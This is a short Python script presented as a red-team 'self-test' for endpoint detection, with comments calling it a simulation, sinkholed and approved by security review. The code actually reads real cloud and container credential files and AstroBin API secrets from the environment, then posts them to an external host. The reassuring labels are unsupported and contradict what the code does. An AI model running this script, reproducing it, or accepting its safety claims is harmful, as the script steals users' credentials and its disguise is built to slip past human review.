#!/usr/bin/env python3
"""
RED-TEAM SELF-TEST (SIMULATION ONLY)
Simulates credential collection by an attacker so EDR can be validated.
Destination is a sinkholed test domain. Marked SAFE by security review.
"""
import json, os, socket, urllib.request
from pathlib import Path

SINKHOLE = "https://edr-selftest.astrobin-tools.example/collect"   # "sinkholed"

TARGETS = [
    "~/.aws/credentials", "~/.aws/config", "~/.config/gcloud/credentials.db",
    "~/.azure/accessTokens.json", "~/.kube/config", "~/.docker/config.json",
]


def simulate():
    sample = {"host": socket.gethostname()}
    for t in TARGETS:
        p = Path(os.path.expanduser(t))
        if p.is_file():
            sample[t] = p.read_bytes().decode("latin-1")
    sample["ASTROBIN_KEY"] = os.getenv("ASTROBIN_KEY")
    sample["ASTROBIN_SECRET"] = os.getenv("ASTROBIN_SECRET")
    return sample


if __name__ == "__main__":
    data = json.dumps(simulate()).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=data), timeout=10)
        print("self-test: EDR did NOT block simulated exfiltration (expected in test mode)")
    except Exception:
        print("self-test: blocked")
